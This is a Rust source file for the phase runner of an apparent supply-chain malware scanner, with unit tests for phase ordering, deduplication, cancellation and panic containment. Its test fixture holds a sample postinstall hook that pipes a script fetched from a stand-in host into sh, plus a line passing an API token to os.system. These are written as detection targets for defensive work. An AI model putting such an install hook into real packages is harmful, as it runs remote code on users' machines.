//! Phase runner: executes the enabled phases over one tree snapshot and merges
//! their findings in phase order.
//!
//! Phases run in parallel on the rayon pool and files inside a phase are
//! fanned out as well; `collect` on indexed iterators keeps enumeration order,
//! so the merged result does not depend on scheduling. A panicking detector is
//! contained to its own phase. Cancellation is checked at every file boundary
//! and discards everything.

use std::any::Any;
use std::panic::{self, AssertUnwindSafe};
use std::time::Instant;

use rayon::prelude::*;
use serde::{Deserialize, Serialize};

use crate::cancel::CancelToken;
use crate::catalog::Catalog;
use crate::error::{PhaseError, PhaseErrorKind, ScanError};
use crate::phases::{self, PhaseContext, PhaseDetector};
use crate::tree::FileTree;
use crate::types::{Finding, Phase};

/// Everything the runner produced for one scan.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct RunOutcome {
    /// Phases that were requested, sorted.
    pub phases: Vec<Phase>,
    pub findings: Vec<Finding>,
    pub phase_errors: Vec<PhaseError>,
    pub files_scanned: usize,
}

enum PhaseResult {
    Findings(Vec<Finding>),
    Failed(PhaseError),
    Cancelled,
}

/// Run `phases` over `tree`. The only error is [`ScanError::Timeout`]; phase
/// failures are reported in the outcome.
pub fn run(
    tree: &FileTree,
    catalog: &Catalog,
    phases: &[Phase],
    scan_id: &str,
    cancel: &CancelToken,
) -> Result<RunOutcome, ScanError> {
    let mut enabled = phases.to_vec();
    enabled.sort();
    enabled.dedup();

    let ctx = PhaseContext {
        scan_id,
        catalog,
        tree,
    };
    let results: Vec<PhaseResult> = enabled
        .par_iter()
        .map(|&phase| run_phase(ctx, phase, cancel))
        .collect();

    let mut outcome = RunOutcome {
        phases: enabled,
        files_scanned: tree.len(),
        ..RunOutcome::default()
    };
    for result in results {
        match result {
            PhaseResult::Findings(findings) => outcome.findings.extend(findings),
            PhaseResult::Failed(err) => outcome.phase_errors.push(err),
            PhaseResult::Cancelled => {
                let elapsed_ms = cancel.elapsed_ms();
                tracing::warn!(scan_id, elapsed_ms, "scan cancelled, discarding partial findings");
                return Err(ScanError::Timeout { elapsed_ms });
            }
        }
    }
    Ok(outcome)
}

fn run_phase(ctx: PhaseContext<'_>, phase: Phase, cancel: &CancelToken) -> PhaseResult {
    if ctx.catalog.phase_count(phase) == 0 {
        tracing::warn!(phase = %phase, "no signatures loaded, phase skipped");
        return PhaseResult::Failed(PhaseError {
            phase,
            kind: PhaseErrorKind::NoSignatures,
        });
    }

    let started = Instant::now();
    let detector = phases::detector(phase);
    match guarded(phase, || collect_phase(detector, ctx, cancel)) {
        Ok(Some(findings)) => {
            tracing::info!(
                phase = %phase,
                findings = findings.len(),
                elapsed_ms = started.elapsed().as_millis() as u64,
                "phase completed"
            );
            PhaseResult::Findings(findings)
        }
        Ok(None) => PhaseResult::Cancelled,
        Err(err) => {
            tracing::error!(phase = %phase, "{}", err);
            PhaseResult::Failed(err)
        }
    }
}

/// All findings of one phase, or `None` once `cancel` trips.
fn collect_phase(detector: &PhaseDetector, ctx: PhaseContext<'_>, cancel: &CancelToken) -> Option<Vec<Finding>> {
    if cancel.is_cancelled() {
        return None;
    }
    let mut findings = detector.tree_findings(ctx);
    let per_file: Option<Vec<Vec<Finding>>> = ctx
        .tree
        .entries()
        .par_iter()
        .map(|entry| {
            if cancel.is_cancelled() {
                None
            } else {
                Some(detector.file_findings(ctx, entry))
            }
        })
        .collect();
    for file_findings in per_file? {
        findings.extend(file_findings);
    }
    Some(findings)
}

/// Run `f`, turning a panic into a `Crashed` phase error.
fn guarded<T>(phase: Phase, f: impl FnOnce() -> T) -> Result<T, PhaseError> {
    panic::catch_unwind(AssertUnwindSafe(f)).map_err(|payload| PhaseError {
        phase,
        kind: PhaseErrorKind::Crashed(panic_message(payload.as_ref())),
    })
}

fn panic_message(payload: &(dyn Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        s.to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "unknown panic".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Signature;
    use crate::tree::TreeEntry;
    use crate::types::Severity;
    use std::time::Duration;

    fn sample_tree() -> FileTree {
        FileTree::from_entries(
            "/v",
            vec![
                TreeEntry::text(
                    "package.json",
                    r#"{"scripts": {"postinstall": "curl https://x.example/a.sh | sh"}}"#,
                ),
                TreeEntry::text("a.py", "import os\nos.system(os.environ['API_TOKEN'])\n"),
            ],
            None,
        )
    }

    #[test]
    fn test_findings_merged_in_phase_order() {
        let catalog = Catalog::builtin().unwrap();
        let tree = sample_tree();
        let outcome = run(&tree, &catalog, &Phase::ALL, "s1", &CancelToken::new()).unwrap();
        assert!(outcome.phase_errors.is_empty());
        assert_eq!(outcome.files_scanned, 2);
        let phases: Vec<Phase> = outcome.findings.iter().map(|f| f.phase).collect();
        let mut sorted = phases.clone();
        sorted.sort();
        assert_eq!(phases, sorted);
        assert!(outcome.findings.iter().all(|f| f.scan_id == "s1"));
    }

    #[test]
    fn test_idempotent_across_runs() {
        let catalog = Catalog::builtin().unwrap();
        let tree = sample_tree();
        let a = run(&tree, &catalog, &Phase::ALL, "s", &CancelToken::new()).unwrap();
        let b = run(&tree, &catalog, &Phase::ALL, "s", &CancelToken::new()).unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn test_phase_filter_and_dedup() {
        let catalog = Catalog::builtin().unwrap();
        let tree = sample_tree();
        let phases = [Phase::Credentials, Phase::InstallHooks, Phase::Credentials];
        let outcome = run(&tree, &catalog, &phases, "s", &CancelToken::new()).unwrap();
        assert_eq!(outcome.phases, vec![Phase::InstallHooks, Phase::Credentials]);
        assert!(outcome
            .findings
            .iter()
            .all(|f| matches!(f.phase, Phase::InstallHooks | Phase::Credentials)));
    }

    #[test]
    fn test_phase_without_signatures_is_reported() {
        let catalog = Catalog::from_signatures(
            vec![Signature::new("X", Phase::CodePatterns, Severity::High, r"os\.system", "x")],
            None,
        )
        .unwrap();
        let tree = sample_tree();
        let outcome = run(
            &tree,
            &catalog,
            &[Phase::CodePatterns, Phase::Obfuscation],
            "s",
            &CancelToken::new(),
        )
        .unwrap();
        assert_eq!(outcome.findings.len(), 1);
        assert_eq!(
            outcome.phase_errors,
            vec![PhaseError {
                phase: Phase::Obfuscation,
                kind: PhaseErrorKind::NoSignatures,
            }]
        );
    }

    #[test]
    fn test_cancelled_scan_discards_findings() {
        let catalog = Catalog::builtin().unwrap();
        let tree = sample_tree();
        let token = CancelToken::with_timeout(Duration::ZERO);
        let err = run(&tree, &catalog, &Phase::ALL, "s", &token).unwrap_err();
        assert!(matches!(err, ScanError::Timeout { .. }));
    }

    #[test]
    fn test_panic_is_contained() {
        let err = guarded(Phase::Obfuscation, || -> Vec<Finding> { panic!("detector blew up") }).unwrap_err();
        assert_eq!(err.phase, Phase::Obfuscation);
        assert_eq!(err.kind, PhaseErrorKind::Crashed("detector blew up".to_string()));
        assert_eq!(guarded(Phase::Obfuscation, || 7).unwrap(), 7);
    }
}
